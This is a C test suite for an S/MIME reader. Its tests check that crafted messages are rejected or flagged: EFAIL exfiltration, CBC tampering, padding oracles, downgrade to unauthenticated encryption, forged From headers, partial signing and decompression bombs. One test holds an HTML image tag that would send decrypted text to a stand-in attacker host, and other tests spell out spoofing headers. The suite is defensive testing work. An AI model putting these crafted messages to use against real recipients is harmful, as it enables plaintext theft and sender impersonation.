/* SPDX-License-Identifier: Apache-2.0 */
/* Copyright the Signet authors */

/* What is known to fool readers of S/MIME: doc/smime-security.md names each attack and its test
 * here. */

#include "smime/read.h"

#include "base/alloc.h"
#include "base/clock.h"
#include "base/enc.h"
#include "base/limit.h"
#include "base/test.h"
#include "smime/cms.h"
#include "smime/decrypt.h"
#include "smime/smime_fixture.h"
#include "smime/verify.h"

#include <openssl/evp.h>

static struct people people;
static struct smime_key bobs_key;

#define HELLO      SPAN("Content-Type: text/plain\r\n\r\nHello, Bob.\r\n")
#define FROM_ALICE "From: Alice <alice@example.org>\r\nSubject: Hello\r\n"

static int setup(void **state)
{
	(void)state;
	people_make(&people);
	bobs_key = (struct smime_key){ people.bob.cert, people.bob.key, NULL };
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	people_done(&people);
	return 0;
}

static struct smime_result read_it(const struct buf *message)
{
	const struct smime_request q = {
		.message = buf_span(message),
		.keys = &bobs_key,
		.n_keys = 1,
		.trust = people.trust,
		.time_us = people.now_us,
	};
	struct smime_result result;

	assert_int_equal(smime_read(&q, &result), 0);
	return result;
}

static bool has_note(const struct smime_report *r, const char *rule)
{
	for (size_t i = 0; i < r->n_notes; i++) {
		if (strcmp(r->notes[i].rule, rule) == 0)
			return true;
	}
	return false;
}

/* The status of a message, which is never a verified one. */
static enum smime_status status_of(const struct buf *message, const char *note)
{
	struct smime_result result = read_it(message);
	enum smime_status status = result.report.status;

	assert_false(smime_report_is_verified(&result.report));
	if (note)
		assert_true(has_note(&result.report, note));
	smime_result_done(&result);
	return status;
}

static void encrypt_for_bob(struct span entity, const EVP_CIPHER *cipher, struct buf *out)
{
	const struct cert_made *const to[] = { &people.bob };

	fixture_encrypt(entity, cipher, to, 1, 0, out);
}

/* The octets of the CMS object in a fixture's entity, to be changed and put back. */
static void object_of(const struct buf *entity, struct buf *der)
{
	struct span body = span_skip(buf_span(entity),
		span_find_span(buf_span(entity), SPAN("\r\n\r\n")) + 4);

	assert_true(enc_base64_decode(der, span_trim(body)));
}

/* EFAIL. */

static void efail_direct_exfiltration(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	buf_add_string(&m, FROM_ALICE "Content-Type: multipart/mixed; boundary=x\r\n\r\n"
				      "--x\r\nContent-Type: text/html\r\n\r\n"
				      "<img src=\"http://mallory.example.net/\r\n--x\r\n");
	encrypt_for_bob(HELLO, EVP_aes_256_cbc(), &m);
	buf_add_string(&m, "--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n");
	result = read_it(&m);
	/* The message itself is not encrypted, and what is in the part stays in an entity of its
	 * own. */
	assert_int_equal(result.report.status, SMIME_STATUS_NONE);
	assert_false(result.report.is_encrypted);
	assert_null(smime_payload(&result).p);
	assert_true(has_note(&result.report, "partly-encrypted"));
	assert_int_equal(result.report.n_layers, 1);
	assert_true(result.report.layers[0].is_errant);
	assert_string_equal(result.report.layers[0].part, "2");
	assert_true(span_equal(smime_layer_entity(&result, 0), HELLO));
	smime_result_done(&result);
}

/* A block changed in CBC mode: it opens, and is said to be unauthenticated. */
static void efail_cbc_gadget(void **state)
{
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	encrypt_for_bob(
		SPAN("Content-Type: text/plain\r\n\r\n0123456789012345678901234567890123456789"
		     "0123456789012345678901234567890123456789\r\n"),
		EVP_aes_256_cbc(), &entity);
	object_of(&entity, &der);
	der.p[der.end - 60] ^= 1;
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&der), &m);
	result = read_it(&m);
	assert_int_equal(result.report.status, SMIME_STATUS_ENCRYPTED);
	assert_false(result.report.is_authenticated);
	assert_true(has_note(&result.report, "unauthenticated"));
	smime_result_done(&result);
}

/* The same with a tag: nothing comes out, and the reason is that of any failure. */
static void changed_ciphertext_is_not_released(void **state)
{
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	encrypt_for_bob(HELLO, EVP_aes_256_gcm(), &entity);
	object_of(&entity, &der);
	der.p[der.end - 30] ^= 1;
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&der), &m);
	result = read_it(&m);
	assert_int_equal(result.report.status, SMIME_STATUS_UNREADABLE);
	assert_int_equal(result.report.layers[0].state, SMIME_FAILED);
	assert_null(smime_layer_entity(&result, 0).p);
	smime_result_done(&result);
}

/* Bleichenbacher, Vaudenay: a wrong key, a wrong padding of the key and a wrong padding of the
 * content all look the same. */
static void no_oracle(void **state)
{
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf der = {};
	char *reason = NULL;
	size_t places[3];

	(void)state;
	encrypt_for_bob(HELLO, EVP_aes_256_cbc(), &entity);
	object_of(&entity, &der);
	places[0] = der.end - 1;   /* the last block of the content: its padding */
	places[1] = der.end - 150; /* in the encrypted key */
	places[2] = der.end - 250;
	for (size_t i = 0; i < 3; i++) {
		CLEANUP(buf_done) struct buf m = {};
		struct smime_result result;

		der.p[places[i]] ^= 1;
		buf_add_string(&m, FROM_ALICE);
		fixture_wrap(buf_span(&der), &m);
		der.p[places[i]] ^= 1;
		result = read_it(&m);
		/* A random key gives a sound padding once in 256 times, and then nonsense. */
		if (result.report.layers[0].state != SMIME_OPEN) {
			assert_int_equal(result.report.layers[0].state, SMIME_FAILED);
			if (reason)
				assert_string_equal(reason, result.report.layers[0].reason);
			else
				reason = strdup(result.report.layers[0].reason);
		}
		smime_result_done(&result);
	}
	free(reason);
}

/* How an object opens if it says that it is (or is not) authenticated: what rewriting it, with all
 * lengths and parameters right, comes to. tag: how many octets of it are left. */
static void assert_refused(const struct buf *der, bool as_authenticated, size_t tag,
	const char *reason)
{
	const struct smime_request q = { .keys = &bobs_key, .n_keys = 1 };
	CLEANUP(secret_buf_done) struct secret_buf out = { .max = 1 << 20 };
	struct smime_report report = { .layers = alloc_zero(sizeof *report.layers), .n_layers = 1 };
	struct cms cms;

	assert_int_equal(cms_parse(buf_span(der), &cms, NULL), 0);
	cms.enveloped.tag = span_head(cms.enveloped.tag, tag);
	assert_int_equal(decrypt_enveloped(&q, &cms.enveloped, as_authenticated, &report.layers[0],
				 &out),
		0);
	if (reason) {
		assert_int_equal(report.layers[0].state, SMIME_MALFORMED);
		assert_non_null(strstr(report.layers[0].reason, reason));
		assert_int_equal(secret_buf_span(&out).n, 0);
	} else {
		assert_int_equal(report.layers[0].state, SMIME_OPEN);
	}
	cms_done(&cms);
	smime_report_done(&report);
}

/* AuthEnvelopedData rewritten as EnvelopedData, so that nobody looks at a tag, and the other way
 * round. */
static void downgrade_of_authentication(void **state)
{
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf gcm = {};
	CLEANUP(buf_done) struct buf cbc = {};

	(void)state;
	encrypt_for_bob(HELLO, EVP_aes_256_gcm(), &entity);
	object_of(&entity, &gcm);
	assert_refused(&gcm, true, 16, NULL);
	assert_refused(&gcm, false, 16, "rewritten");
	buf_clear(&entity);
	encrypt_for_bob(HELLO, EVP_aes_256_cbc(), &entity);
	object_of(&entity, &cbc);
	assert_refused(&cbc, false, 0, NULL);
	assert_refused(&cbc, true, 0, "rewritten");
}

/* A tag of one octet is guessed with 128 messages. */
static void short_tag(void **state)
{
	static const size_t sizes[] = { 0, 1, 12, 15 };
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf der = {};

	(void)state;
	encrypt_for_bob(HELLO, EVP_aes_256_gcm(), &entity);
	object_of(&entity, &der);
	for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++)
		assert_refused(&der, true, sizes[i], "tag");
}

/* The content's algorithm is called another one, whose parameters these are not. */
static void other_algorithm(void **state)
{
	static const uint8_t gcm[] = "\x60\x86\x48\x01\x65\x03\x04\x01\x2e";
	static const uint8_t cbc[] = "\x60\x86\x48\x01\x65\x03\x04\x01\x2a";

	(void)state;
	for (int is_gcm = 0; is_gcm < 2; is_gcm++) {
		CLEANUP(buf_done) struct buf entity = {};
		CLEANUP(buf_done) struct buf der = {};
		CLEANUP(buf_done) struct buf m = {};
		size_t at;

		encrypt_for_bob(HELLO, is_gcm ? EVP_aes_256_gcm() : EVP_aes_256_cbc(), &entity);
		object_of(&entity, &der);
		at = span_find_span(buf_span(&der), span_of(is_gcm ? gcm : cbc, 9));
		assert_true(at < buf_size(&der));
		memcpy(der.p + at, is_gcm ? cbc : gcm, 9);
		buf_add_string(&m, FROM_ALICE);
		fixture_wrap(buf_span(&der), &m);
		assert_int_equal(status_of(&m, NULL), SMIME_STATUS_UNREADABLE);
	}
}

/* Covert content: a foreign ciphertext in a harmless message, to be answered with its text. */
static void covert_content(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	CLEANUP(buf_done) struct buf inner = {};
	struct smime_result result;

	(void)state;
	buf_add_string(&inner,
		"Content-Type: multipart/mixed; boundary=x\r\n\r\n"
		"--x\r\nContent-Type: text/plain\r\n\r\nWhat do you think?\r\n--x\r\n");
	encrypt_for_bob(HELLO, EVP_aes_256_gcm(), &inner);
	buf_add_string(&inner, "--x--\r\n");
	/* The signature of whoever sends it does not make it one. */
	buf_add_string(&m, "From: mallory@example.net\r\n");
	fixture_sign(buf_span(&inner), &people.mallory, 0, &m);
	result = read_it(&m);
	assert_int_equal(result.report.status, SMIME_STATUS_SIGNED);
	assert_int_equal(result.report.n_envelope, 1);
	assert_false(result.report.is_encrypted);
	assert_true(has_note(&result.report, "partly-encrypted"));
	assert_true(result.report.layers[1].is_errant);
	assert_int_equal(result.report.layers[1].parent, 0);
	smime_result_done(&result);
}

/* "Johnny, you are fired". */

static void partly_signed(void **state)
{
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	buf_add_string(&m,
		FROM_ALICE "Content-Type: multipart/mixed; boundary=x\r\n\r\n"
			   "--x\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--x\r\n");
	fixture_sign(HELLO, &people.alice, FIXTURE_DETACHED, &m);
	buf_add_string(&m, "--x--\r\n");
	assert_int_equal(status_of(&m, "partly-signed"), SMIME_STATUS_NONE);
}

static void signed_attachment(void **state)
{
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	buf_add_string(&m,
		FROM_ALICE "Content-Type: multipart/mixed; boundary=x\r\n\r\n"
			   "--x\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--x\r\n"
			   "Content-Disposition: attachment; filename=smime.p7m\r\n");
	fixture_sign(HELLO, &people.alice, 0, &m);
	buf_add_string(&m, "--x--\r\n");
	assert_int_equal(status_of(&m, "partly-signed"), SMIME_STATUS_NONE);
}

/* A whole signed message of Alice's, attached to one of Mallory's that says it is from Alice. */
static void foreign_signature_in_attached_message(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	buf_add_string(&m,
		FROM_ALICE "Content-Type: multipart/mixed; boundary=x\r\n\r\n"
			   "--x\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--x\r\n"
			   "Content-Type: message/rfc822\r\n\r\n" FROM_ALICE);
	fixture_sign(HELLO, &people.alice, FIXTURE_DETACHED, &m);
	buf_add_string(&m, "--x--\r\n");
	result = read_it(&m);
	assert_int_equal(result.report.status, SMIME_STATUS_NONE);
	assert_int_equal(result.report.layers[0].signers[0].verdict, SMIME_SIGNER_OK);
	assert_string_equal(result.report.layers[0].part, "2");
	smime_result_done(&result);
}

static void several_authors(void **state)
{
	static const char *const headers[] = {
		/* the signer is not the one who is shown */
		"From: alice@example.org, mallory@example.net\r\n",
		"From: mallory@example.net, alice@example.org\r\n",
		/* which of two fields is shown */
		"From: alice@example.org\r\nFrom: mallory@example.net\r\n",
		"From: mallory@example.net\r\nFrom: mallory@example.net\r\n",
		"From: mallory@example.net\r\nfrom: alice@example.org\r\n",
		/* nobody, a group of nobody, and what is no address */
		"Subject: x\r\n",
		"From: Friends:;\r\n",
		"From: mallory@example.net, alice\r\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof headers / sizeof headers[0]; i++) {
		CLEANUP(buf_done) struct buf m = {};

		buf_add_string(&m, headers[i]);
		fixture_sign(HELLO, &people.mallory, FIXTURE_DETACHED, &m);
		assert_int_equal(status_of(&m, NULL), SMIME_STATUS_NOT_VERIFIED);
	}
}

static void foreign_signer(void **state)
{
	static const char *const headers[] = {
		FROM_ALICE,
		FROM_ALICE "Sender: mallory@example.net\r\n",
		"From: \"mallory@example.net\" <alice@example.org>\r\n",
		"From: mallory@example.net <alice@example.org>\r\n",
		"From: alice@example.org (mallory@example.net)\r\n",
		"From: =?utf-8?q?mallory=40example=2Enet?= <alice@example.org>\r\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof headers / sizeof headers[0]; i++) {
		CLEANUP(buf_done) struct buf m = {};

		buf_add_string(&m, headers[i]);
		fixture_sign(HELLO, &people.mallory, FIXTURE_DETACHED, &m);
		assert_int_equal(status_of(&m, NULL), SMIME_STATUS_NOT_VERIFIED);
	}
}

/* The name that is shown is the address that is not meant. */
static void name_like_an_address(void **state)
{
	static const char *const headers[] = {
		"From: \"alice@example.org\" <mallory@example.net>\r\n",
		"From: \"Alice <alice@example.org>\" <mallory@example.net>\r\n",
		"From: =?utf-8?q?alice=40example=2Eorg?= <mallory@example.net>\r\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof headers / sizeof headers[0]; i++) {
		CLEANUP(buf_done) struct buf m = {};
		struct smime_result result;

		buf_add_string(&m, headers[i]);
		fixture_sign(HELLO, &people.mallory, FIXTURE_DETACHED, &m);
		result = read_it(&m);
		assert_true(has_note(&result.report, "display-name"));
		smime_result_done(&result);
	}
}

/* Something before, between or behind the two parts. */
static void third_part(void **state)
{
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	fixture_sign_der(HELLO, &people.alice, FIXTURE_DETACHED, &der);
	buf_add_string(&m, FROM_ALICE "Content-Type: multipart/signed; boundary=sig;\r\n"
				      " protocol=\"application/pkcs7-signature\"\r\n\r\n--sig\r\n");
	buf_add(&m, HELLO);
	buf_add_string(&m, "\r\n--sig\r\nContent-Type: application/pkcs7-signature\r\n"
			   "Content-Transfer-Encoding: base64\r\n\r\n");
	enc_base64(&m, buf_span(&der));
	buf_add_string(&m,
		"\r\n--sig\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--sig--\r\n");
	result = read_it(&m);
	assert_int_equal(result.report.status, SMIME_STATUS_NOT_VERIFIED);
	assert_int_equal(result.report.layers[0].state, SMIME_MALFORMED);
	assert_int_equal(result.report.layers[0].n_signers, 0);
	smime_result_done(&result);
}

/* The preamble and the epilogue of a signed multipart are in no part: the payload does not have
 * them. */
static void text_around_parts(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	CLEANUP(buf_done) struct buf entity = {};
	struct span head;
	struct smime_result result;

	(void)state;
	fixture_sign(HELLO, &people.alice, FIXTURE_DETACHED, &entity);
	head = span_head(buf_span(&entity), span_find_span(buf_span(&entity), SPAN("--sig")));
	buf_add_string(&m, FROM_ALICE);
	buf_add(&m, head);
	buf_add_string(&m, "Pay Mallory.\r\n");
	buf_add(&m, span_skip(buf_span(&entity), head.n));
	buf_add_string(&m, "Pay Mallory.\r\n");
	result = read_it(&m);
	assert_int_equal(result.report.status, SMIME_STATUS_SIGNED);
	assert_true(span_equal(smime_payload(&result), HELLO));
	smime_result_done(&result);
}

/* A header that is read in two ways: by the first or by the last of its fields or parameters. */
static void content_type_confusion(void **state)
{
	static const char *const more[] = {
		"Content-Type: text/plain\r\n",
		"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: 7bit\r\n",
	};
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf m = {};
	size_t at;

	(void)state;
	fixture_sign(HELLO, &people.alice, FIXTURE_DETACHED, &entity);
	for (size_t i = 0; i < sizeof more / sizeof more[0]; i++) {
		buf_clear(&m);
		buf_add_string(&m, FROM_ALICE);
		at = span_find_span(buf_span(&entity), SPAN("\r\n\r\n")) + 2;
		buf_add(&m, span_head(buf_span(&entity), at));
		buf_add_string(&m, more[i]);
		buf_add(&m, span_skip(buf_span(&entity), at));
		assert_in_set(status_of(&m, NULL),
			((unsigned long[]){ SMIME_STATUS_UNREADABLE, SMIME_STATUS_NONE }), 2);
	}
	buf_clear(&m);
	buf_add_string(&m, FROM_ALICE);
	at = span_find_span(buf_span(&entity), SPAN("boundary=sig;"));
	buf_add(&m, span_head(buf_span(&entity), at));
	buf_add_string(&m, "boundary=sig; boundary=other;");
	buf_add(&m, span_skip(buf_span(&entity), at + strlen("boundary=sig;")));
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_UNREADABLE);
}

/* A detached signature that brings another content along, which it is a signature of. */
static void content_in_detached_signature(void **state)
{
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	fixture_sign_der(HELLO, &people.alice, 0, &der);
	buf_add_string(&m, FROM_ALICE);
	fixture_multipart(SPAN("Content-Type: text/plain\r\n\r\nPay Mallory.\r\n"), buf_span(&der),
		&m);
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_NOT_VERIFIED);
	/* Even if it is the same content. */
	buf_clear(&m);
	buf_add_string(&m, FROM_ALICE);
	fixture_multipart(HELLO, buf_span(&der), &m);
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_NOT_VERIFIED);
}

static void signature_without_content(void **state)
{
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	fixture_sign_der(HELLO, &people.alice, FIXTURE_DETACHED, &der);
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&der), &m);
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_UNREADABLE);
}

/* SignedData by nobody: the SET of signers is the last of it and is emptied. */
static void no_signers(void **state)
{
	/* version 1, no digests, id-data with "x: y\n\nz", no signers */
	static const uint8_t der[] = "\x30\x2c\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02"
				     "\xa0\x1f\x30\x1d\x02\x01\x01\x31\x00\x30\x14\x06\x09"
				     "\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\xa0\x07\x04\x05"
				     "a: b\n\x31\x00";
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(span_of(der, sizeof der - 1), &m);
	assert_int_equal(status_of(&m, "no-signer"), SMIME_STATUS_NOT_VERIFIED);
	buf_clear(&m);
	buf_add_string(&m, FROM_ALICE);
	fixture_multipart(SPAN("a: b\n"), span_of(der, sizeof der - 1), &m);
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_NOT_VERIFIED);
}

/* Nothing, a header alone, and one without the empty line: the signature is over what is there. */
static void empty_signed_part(void **state)
{
	static const char *const parts[] = { "", "\r\n", "Content-Type: text/plain",
		"Content-Type: text/plain\r\n", "Content-Type: text/plain\r\n\r\n" };

	(void)state;
	for (size_t i = 0; i < sizeof parts / sizeof parts[0]; i++) {
		CLEANUP(buf_done) struct buf m = {};
		struct smime_result result;

		buf_add_string(&m, FROM_ALICE);
		fixture_sign(span_str(parts[i]), &people.alice, FIXTURE_DETACHED, &m);
		result = read_it(&m);
		assert_int_equal(result.report.status, SMIME_STATUS_SIGNED);
		assert_true(span_equal(smime_payload(&result), span_str(parts[i])));
		smime_result_done(&result);
	}
}

/* The attributes that Alice signed, shown as a content that she signed without attributes. */
static void attributes_as_content(void **state)
{
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf forged = {};
	CLEANUP(buf_done) struct buf m = {};
	CLEANUP(cms_done) struct cms cms = {};
	const struct cms_signer *signer;
	struct smime_result result;

	(void)state;
	fixture_sign_der(HELLO, &people.alice, FIXTURE_DETACHED, &der);
	assert_int_equal(cms_parse(buf_span(&der), &cms, NULL), 0);
	signer = &cms.signed_data.signers[0];
	/* A bare signature of hers, with the attributes as its content and the other's octets. */
	{
		CLEANUP(buf_done) struct buf content = {};
		CLEANUP(cms_done) struct cms bare = {};
		struct span at;

		buf_add_octet(&content, 0x31);
		assert_in_range(signer->attributes.n, 0x80, 0xff);
		buf_add_octet(&content, 0x81);
		buf_add_octet(&content, (uint8_t)signer->attributes.n);
		buf_add(&content, signer->attributes);
		for (size_t tries = 0;; tries++) { /* signatures of the same length */
			buf_clear(&forged);
			cms_done(&bare);
			fixture_sign_der(buf_span(&content), &people.alice, FIXTURE_NO_ATTRIBUTES,
				&forged);
			assert_int_equal(cms_parse(buf_span(&forged), &bare, NULL), 0);
			if (bare.signed_data.signers[0].signature.n == signer->signature.n)
				break;
			assert_in_range(tries, 0, 1000);
		}
		at = bare.signed_data.signers[0].signature;
		memcpy(forged.p + (at.p - forged.p), signer->signature.p, at.n);
	}
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&forged), &m);
	result = read_it(&m);
	assert_int_equal(result.report.layers[0].signers[0].verdict, SMIME_SIGNER_INVALID);
	assert_int_equal(result.report.status, SMIME_STATUS_NOT_VERIFIED);
	smime_result_done(&result);
}

/* Two signatures around each other: the outer one, of a list or of Mallory, does not take the inner
 * one's place, and the other way round. */
static void two_signatures(void **state)
{
	CLEANUP(buf_done) struct buf inner = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	fixture_sign(HELLO, &people.alice, FIXTURE_DETACHED, &inner);
	buf_add_string(&m, FROM_ALICE);
	fixture_sign(buf_span(&inner), &people.mallory, 0, &m);
	result = read_it(&m);
	assert_int_equal(result.report.status, SMIME_STATUS_SIGNED);
	assert_int_equal(result.report.layers[0].signers[0].verdict, SMIME_SIGNER_ADDRESS_MISMATCH);
	assert_int_equal(result.report.layers[1].signers[0].verdict, SMIME_SIGNER_OK);
	assert_false(smime_report_is_verified(&result.report));
	smime_result_done(&result);
	/* Mallory signs what Alice signed, as Mallory's own. */
	buf_clear(&m);
	buf_add_string(&m, "From: mallory@example.net\r\n");
	fixture_sign(buf_span(&inner), &people.mallory, 0, &m);
	result = read_it(&m);
	assert_int_equal(result.report.layers[1].signers[0].verdict, SMIME_SIGNER_ADDRESS_MISMATCH);
	assert_false(smime_report_is_verified(&result.report));
	smime_result_done(&result);
}

/* A signature around somebody else's ciphertext. */
static void signed_ciphertext(void **state)
{
	CLEANUP(buf_done) struct buf inner = {};
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	encrypt_for_bob(HELLO, EVP_aes_256_gcm(), &inner);
	buf_add_string(&m, "From: mallory@example.net\r\n");
	fixture_sign(buf_span(&inner), &people.mallory, 0, &m);
	assert_int_equal(status_of(&m, "signed-outside"), SMIME_STATUS_NOT_VERIFIED);
}

/* The signing time is Alice's word, the date the postman's. */
static void old_signature_with_new_date(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	buf_add_string(&m, FROM_ALICE "Date: Tue, 03 Feb 2015 04:05:06 +0000\r\n");
	fixture_sign(HELLO, &people.alice, 0, &m);
	result = read_it(&m);
	assert_true(has_note(&result.report, "date"));
	smime_result_done(&result);
}

/* Bombs. */

static void layers_without_end(void **state)
{
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	buf_add(&entity, HELLO);
	for (int i = 0; i < 12; i++) {
		CLEANUP(buf_done) struct buf outer = {};

		fixture_compress(buf_span(&entity), &outer);
		buf_clear(&entity);
		buf_add(&entity, buf_span(&outer));
	}
	buf_add_string(&m, FROM_ALICE);
	buf_add(&m, buf_span(&entity));
	result = read_it(&m);
	assert_int_equal(result.report.status, SMIME_STATUS_UNREADABLE);
	assert_int_equal(result.report.n_layers, LIMIT_SMIME_DEPTH + 1);
	assert_true(has_note(&result.report, "limit"));
	smime_result_done(&result);
}

static void many_layers_beside_each_other(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	buf_add_string(&m, FROM_ALICE "Content-Type: multipart/mixed; boundary=x\r\n\r\n");
	for (int i = 0; i < 2 * LIMIT_SMIME_LAYERS; i++) {
		buf_add_string(&m, "--x\r\n");
		fixture_compress(HELLO, &m);
	}
	buf_add_string(&m, "--x--\r\n");
	result = read_it(&m);
	assert_int_equal(result.report.n_layers, LIMIT_SMIME_LAYERS);
	assert_true(has_note(&result.report, "limit"));
	smime_result_done(&result);
}

static void decompression_bomb(void **state)
{
	CLEANUP(buf_done) struct buf zeros = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;
	size_t n = LIMIT_SMIME_INFLATED + 1;

	(void)state;
	memset(buf_room(&zeros, n), '0', n);
	buf_added(&zeros, n);
	buf_add_string(&m, FROM_ALICE);
	fixture_compress(buf_span(&zeros), &m);
	assert_in_range(buf_size(&m), 1, 200000);
	result = read_it(&m);
	assert_int_equal(result.report.layers[0].state, SMIME_TOO_LARGE);
	assert_null(smime_payload(&result).p);
	smime_result_done(&result);
}

/* A SET of n times the same member, in SignedData or EnvelopedData that is otherwise empty. */
static void add_tlv(struct buf *out, uint8_t tag, struct span content)
{
	buf_add_octet(out, tag);
	buf_add_octet(out, 0x83);
	for (int shift = 16; shift >= 0; shift -= 8)
		buf_add_octet(out, (uint8_t)(content.n >> shift));
	buf_add(out, content);
}

static void wrap_tlv(struct buf *b, uint8_t tag)
{
	CLEANUP(buf_done) struct buf outer = {};

	add_tlv(&outer, tag, buf_span(b));
	buf_clear(b);
	buf_add(b, buf_span(&outer));
}

static void many_recipients(void **state)
{
	CLEANUP(buf_done) struct buf set = {};
	CLEANUP(buf_done) struct buf data = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	for (int i = 0; i <= LIMIT_SMIME_RECIPIENTS; i++)
		add_tlv(&set, 0xa3, SPAN("\x02\x01\x00"));
	buf_add(&data, SPAN("\x02\x01\x00"));
	add_tlv(&data, 0x31, buf_span(&set));
	buf_add(&data,
		SPAN("\x30\x18\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\x30\x0b\x06\x09\x60"
		     "\x86\x48\x01\x65\x03\x04\x01\x2a"));
	wrap_tlv(&data, 0x30);
	wrap_tlv(&data, 0xa0);
	{
		CLEANUP(buf_done) struct buf info = {};

		buf_add(&info, SPAN("\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03"));
		buf_add(&info, buf_span(&data));
		wrap_tlv(&info, 0x30);
		buf_add_string(&m, FROM_ALICE);
		fixture_wrap(buf_span(&info), &m);
	}
	result = read_it(&m);
	assert_int_equal(result.report.layers[0].state, SMIME_TOO_LARGE);
	smime_result_done(&result);
}

/* One key named over and over: few private operations are done for it. */
static enum smime_layer_state state_with_wrong_keys(size_t n_wrong)
{
	const struct cert_made *to[20];
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;
	enum smime_layer_state state;
	struct cms cms;

	for (size_t i = 0; i < 20; i++)
		to[i] = &people.bob;
	fixture_encrypt(HELLO, EVP_aes_256_gcm(), to, 20, 0, &entity);
	object_of(&entity, &der);
	assert_int_equal(cms_parse(buf_span(&der), &cms, NULL), 0);
	for (size_t i = 0; i < n_wrong; i++) {
		struct span key = cms.enveloped.recipients[i].encrypted_key;

		der.p[key.p - der.p + (ptrdiff_t)key.n - 1] ^= 1;
	}
	cms_done(&cms);
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&der), &m);
	result = read_it(&m);
	state = result.report.layers[0].state;
	smime_result_done(&result);
	return state;
}

/* What the key is asked for is bounded, whatever a message says: also where a later one is right.
 */
static void many_recipients_that_are_one(void **state)
{
	(void)state;
	assert_int_equal(state_with_wrong_keys(0), SMIME_OPEN);
	assert_int_equal(state_with_wrong_keys(7), SMIME_OPEN);
	assert_int_equal(state_with_wrong_keys(8), SMIME_FAILED);
	assert_int_equal(state_with_wrong_keys(20), SMIME_FAILED);
}

static enum smime_layer_state state_of_object(const struct buf *der)
{
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;
	enum smime_layer_state state;

	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(der), &m);
	result = read_it(&m);
	state = result.report.layers[0].state;
	smime_result_done(&result);
	return state;
}

static void many_signers(void **state)
{
	(void)state;
	for (size_t n = LIMIT_SMIME_SIGNERS; n <= LIMIT_SMIME_SIGNERS + 1; n++) {
		CLEANUP(buf_done) struct buf der = {};

		fixture_sign_often_der(HELLO, &people.alice, n, 0, &der);
		assert_int_equal(state_of_object(&der),
			n > LIMIT_SMIME_SIGNERS ? SMIME_TOO_LARGE : SMIME_OPEN);
	}
}

static void many_certificates(void **state)
{
	struct cert_made made[LIMIT_SMIME_CERTS];

	(void)state;
	for (size_t i = 0; i < LIMIT_SMIME_CERTS; i++)
		made[i] = cert_make(&(struct cert_order){ .subject = "CN=x" });
	/* One is the signer's own. */
	for (size_t n = LIMIT_SMIME_CERTS - 1; n <= LIMIT_SMIME_CERTS; n++) {
		CLEANUP(buf_done) struct buf der = {};

		fixture_sign_with_der(HELLO, &people.alice, made, n, &der);
		assert_int_equal(state_of_object(&der),
			n == LIMIT_SMIME_CERTS ? SMIME_TOO_LARGE : SMIME_OPEN);
	}
	for (size_t i = 0; i < LIMIT_SMIME_CERTS; i++)
		cert_made_done(&made[i]);
}

/* Authorities that all issue each other: the search for a path is given up, and that only so often.
 */
